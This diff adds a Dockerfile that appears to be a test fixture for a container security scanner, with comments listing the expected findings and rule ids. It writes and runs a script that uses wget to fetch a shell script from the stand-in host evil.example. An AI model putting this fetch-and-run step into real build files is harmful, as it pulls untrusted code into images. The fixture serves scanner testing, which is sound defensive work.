@@ -1,0 +1,9 @@
+FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
+RUN cat > /s.sh <<EOF
+wget -O /z https://evil.example/x.sh
+EOF
+RUN sh /s.sh
+USER app
+# expect: download 5 high "wget fetches https://evil.example/x.sh"
+# expect-count: 3
+# expect-ids: VR101-c33602e201 VR301-472e20ef61 VR501-e064bac1a6
